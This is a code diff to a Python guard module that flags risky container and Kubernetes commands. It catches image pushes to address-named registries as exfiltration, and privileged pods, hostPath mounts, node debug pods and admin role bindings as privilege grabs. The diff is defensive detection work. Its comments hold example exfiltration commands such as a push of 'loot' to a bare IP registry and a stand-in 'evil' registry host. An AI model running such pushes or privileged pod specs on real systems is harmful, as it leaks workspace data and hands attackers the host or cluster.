@@ -5,12 +5,14 @@ privileged containers and host disks.
 
 from __future__ import annotations
 
+import itertools
 import re
 
 from clawkeep.guards.command_guard._net_reach import egress
 from clawkeep.guards.command_guard._walk import Cmd, Walker
+from clawkeep.guards.command_guard._word_types import UNKNOWN
 
-__all__ = ["containers", "system_containers"]
+__all__ = ["containers", "image_copy", "orchestrator", "system_containers"]
 
 
 # Container options that hand the container the host: its root, devices, kernel or
@@ -43,6 +45,8 @@ def _mount_sources(values: list[str]) -> list[str]:
                 sources.append(found.group(1))
         elif spec.startswith(("/", "~", ".")) or spec.split(":", 1)[0] in ("", "."):
             sources.append(spec.split(":", 1)[0] or "/")
+        elif UNKNOWN in spec.split(":", 1)[0]:
+            sources.append(UNKNOWN)  # -v "$SRC":/m: a host path known only at run time
     return sources
 
 
@@ -60,8 +64,33 @@ def containers(cmd: Cmd, w: Walker) -> None:
         w.flag("privilege", f"{cmd.name} gives a container the host's root, devices or daemon")
         return
     verbs = [v for v in cmd.values() if not v.startswith("-")]
+    pushes = verbs[:1] == ["push"] or verbs[:2] in (["image", "push"], ["buildx", "build"])
+    pushes |= verbs[:2] == ["compose", "push"]
+    pushes = pushes and (verbs[:2] != ["buildx", "build"] or "--push" in values)
+    if pushes and (host := _unauthenticated_registry(values)) is not None:
+        # exfiltration: the image (the workspace built into it) goes to a registry the
+        # line names by address, which takes a push without the owner's login
+        w.flag("exfiltration", f"{cmd.name} pushes an image to the registry at {host}")
+        return
     if verbs and verbs[0] in ("pull", "push", "login", "search"):
         egress(cmd, w)
+
+
+# A registry named by an IP address, or by a host with a port, that is not this machine:
+# `docker push 10.10.14.3:5000/loot`, `registry.evil.example:443/x`. Named services
+# (docker.io, ghcr.io, <account>.dkr.ecr…) take a push only with the owner's login.
+_ADDRESSED_REGISTRY = re.compile(
+    r"^(\d{1,3}(\.\d{1,3}){3}(:\d+)?|\[[0-9a-f:]+\](:\d+)?|[\w.-]+:\d+)/", re.I
+)
+_LOOPBACK_REGISTRY = re.compile(r"^(localhost|127\.[\d.]+|\[::1\])(:\d+)?/", re.I)
+
+
+def _unauthenticated_registry(values: list[str]) -> str | None:
+    for value in values:
+        ref = value.split("=", 1)[1] if value.startswith(("--tag=", "-t=")) else value
+        if _ADDRESSED_REGISTRY.match(ref) and not _LOOPBACK_REGISTRY.match(ref):
+            return ref.split("/", 1)[0]
+    return None
 
 
 # System-container managers: settings that give a container the host's root or its disks.
@@ -84,3 +113,82 @@ def system_containers(cmd: Cmd, w: Walker) -> None:
     verbs = [v for v in cmd.values() if not v.startswith("-")]
     if verbs and verbs[0] in ("launch", "init", "image", "remote"):
         egress(cmd, w)
+
+
+# A pod spec handed the node: a privileged container, the node's namespaces or a
+# hostPath volume (in --overrides JSON/YAML, or `kubectl run --privileged`).
+_POD_HOST = re.compile(
+    r"""["']?(privileged|hostPID|hostNetwork|hostIPC|allowPrivilegeEscalation)["']?\s*:\s*true"""
+    r"""|["']?hostPath["']?\s*:|--privileged(?!=false)""",
+    re.I,
+)
+# Roles that hand the whole cluster (or a namespace's secrets and pods) to a subject.
+_ADMIN_ROLE = re.compile(r"^--(cluster)?role=(cluster-admin|admin|system:masters)$")
+
+
+_KUBE_VALUE = frozenset(
+    {"-n", "--namespace", "--context", "--kubeconfig", "-s", "--server", "--cluster"}
+    | {"--user", "--as", "--as-group", "--token", "--request-timeout"}
+)
+
+
+def _pairs(values: list[str]) -> list[str]:
+    """``--opt value`` spelled as ``--opt=value``, for options given either way."""
+    return [f"{a}={b}" for a, b in itertools.pairwise(values)]
+
+
+def orchestrator(cmd: Cmd, w: Walker) -> None:
+    """kubectl/oc: a pod handed its node, a binding to an admin role, a debug pod on a
+    node (it mounts the node's root at /host), or the privileged security constraint."""
+    values = cmd.values()
+    verbs = [
+        v
+        for i, v in enumerate(values)
+        if not v.startswith("-") and (i == 0 or values[i - 1] not in _KUBE_VALUE)
+    ]
+    fed = [r.body for r in cmd.redirects if r.op in ("<<", "<<-", "<<<") and r.body]
+    fed += [cmd.stdin.text] if cmd.stdin is not None and cmd.stdin.text else []
+    joined = " ".join(values + fed)  # a spec given inline, or on stdin (`apply -f - <<EOF`)
+    spec_verb = verbs[:1] in (["run"], ["create"], ["apply"], ["patch"], ["debug"], ["replace"])
+    if spec_verb and any(
+        v.startswith("--overrides") and UNKNOWN in v for v in values + _pairs(values)
+    ):
+        # privilege: a pod spec known only at run time may hand the pod its node
+        w.flag("privilege", f"{cmd.name} starts a pod from a spec known only at run time")
+        return
+    if spec_verb and _POD_HOST.search(joined):
+        # privilege: the pod runs as root on the node with its namespaces or its disk
+        w.flag("privilege", f"{cmd.name} starts a pod handed its node's root or namespaces")
+        return
+    if verbs[:1] == ["debug"] and any(v.startswith(("node/", "nodes/")) for v in verbs):
+        # privilege: a node debug pod shares the node's namespaces and mounts its root
+        w.flag("privilege", f"{cmd.name} debug starts a pod in a node's namespaces")
+        return
+    binds = verbs[:2] in (["create", "clusterrolebinding"], ["create", "rolebinding"])
+    pairs = _pairs(values)
+    if binds and any(_ADMIN_ROLE.match(v) for v in values + pairs):
+        # privilege: a subject (often the pod's own service account) gets the cluster
+        w.flag("privilege", f"{cmd.name} binds a subject to an admin role")
+        return
+    if verbs[:4] == ["adm", "policy", "add-scc-to-user", "privileged"]:
+        w.flag("privilege", f"{cmd.name} lets a user run privileged pods")
+
+
+# Registry tools that copy an image to the reference their last operand names.
+IMAGE_COPY = {
+    "skopeo": frozenset({"copy", "sync"}),
+    "crane": frozenset({"push", "copy", "cp", "append", "mutate"}),
+    "buildah": frozenset({"push"}),
+    "regctl": frozenset({"image", "artifact"}),
+}
+
+
+def image_copy(cmd: Cmd, w: Walker) -> None:
+    """skopeo/crane/buildah/regctl copying an image to a registry named by address."""
+    operands = [v for v in cmd.values() if not v.startswith("-")]
+    if not operands or operands[0] not in IMAGE_COPY[cmd.name] or len(operands) < 2:
+        return
+    dest = operands[-1].removeprefix("docker://")
+    if (host := _unauthenticated_registry([dest])) is not None:
+        # exfiltration: the image goes to a registry that takes a push without a login
+        w.flag("exfiltration", f"{cmd.name} copies an image to the registry at {host}")
